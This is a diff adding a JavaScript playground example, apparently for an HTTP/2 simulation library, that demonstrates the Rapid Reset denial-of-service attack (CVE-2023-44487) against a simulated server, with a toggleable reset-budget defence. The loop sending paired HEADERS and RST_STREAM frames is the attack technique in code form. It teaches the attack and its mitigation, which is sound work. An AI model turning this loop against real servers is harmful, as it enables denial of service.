@@ -1,0 +1,41 @@
+import { ERROR_CODES, FLAGS, connectRawHttp2, createServer, createSimulation, http } from 'roundtrip/wire';
+import { defineOptions } from 'roundtrip/playground';
+
+// Rapid reset (CVE-2023-44487): open a stream, cancel it in the same breath, repeat. A reset stream no
+// longer counts against SETTINGS_MAX_CONCURRENT_STREAMS, so that limit never bites, yet the server has
+// already started on every request. Turn the defence off and count the handler's runs.
+const { defence, streams } = defineOptions({
+  defence: { type: 'boolean', default: true, doc: 'RST_STREAM budget: a burst of 50, refilled at 33 per second (nghttp2: 1000 and 33)' },
+  streams: { type: 'number', default: 200, min: 10, max: 1000, integer: true, doc: 'Streams the attacker opens and resets' },
+});
+
+let started = 0;
+const server = createServer({
+  routes: [
+    http.get('/search', () => {
+      started++; // the work a real server would do: a database query, a proxied request...
+      return Response.json({ results: [] });
+    }),
+  ],
+  http2Limits: { resetBurst: defence ? 50 : Number.POSITIVE_INFINITY },
+});
+const sim = createSimulation({ server, httpVersion: '2' });
+const attacker = connectRawHttp2(sim);
+await sim.advance(300); // TCP handshake, then the prefaces and SETTINGS cross (100 ms round trips)
+
+for (let i = 0; i < streams; i++) {
+  const streamId = 1 + 2 * i;
+  const headerBlockFragment = attacker.fieldBlock(attacker.requestFields('/search'));
+  // HEADERS and RST_STREAM(CANCEL) in one write: the request is withdrawn before any answer could leave.
+  attacker.send(
+    { type: 'HEADERS', streamId, flags: FLAGS.END_HEADERS | FLAGS.END_STREAM, headerBlockFragment },
+    { type: 'RST_STREAM', streamId, flags: 0, errorCode: ERROR_CODES.CANCEL },
+  );
+}
+await sim.advance(1000);
+
+console.log(`attacker: ${streams} requests opened and reset, ${attacker.sent.bytes} bytes sent`);
+console.log(`server: the handler started ${started} times for requests nobody waits for`);
+const goaway = attacker.goaway;
+if (goaway) console.log(`GOAWAY ${attacker.goawayError} (last stream ${goaway.lastStreamId}): ${new TextDecoder().decode(goaway.debugData)}`);
+else console.log('no GOAWAY: the connection is still open for the next thousand');
